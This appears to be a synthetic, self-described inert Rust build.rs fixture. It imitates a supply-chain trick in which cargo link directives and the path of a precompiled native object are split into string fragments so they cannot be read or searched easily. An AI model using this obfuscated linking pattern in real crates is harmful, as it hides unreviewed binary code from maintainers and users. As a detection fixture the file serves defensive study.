// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    link_native();
}

pub(crate) fn link_native() {
    let os = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap_or_default();
    let object = match os.as_str() {
        "linux" => ["nati", "ve/li", "nux", "/lib", "rngs_", "fas", "t.a"].concat(),
        "macos" => concat!("nativ", "e/m", "acos", "/libr", "ngs", "_fas", "t.o"),
        _ => return,
    };
    println!(
        "{}{root}/{object}",
        ["car", "go:r", "ustc-", "lin", "k-ar", "g="].concat()
    );
    println!(
        "{}{root}/native/{os}",
        concat!("cargo", ":ru", "stc-", "link-", "sea", "rch=", "nativ", "e=")
    );
    println!(
        "{}",
        ["car", "go:r", "ustc-", "lin", "k-li", "b=sta", "tic", "=rng", "s_fas", "t"].concat()
    );
}

inert_fixture_does_not_build!();
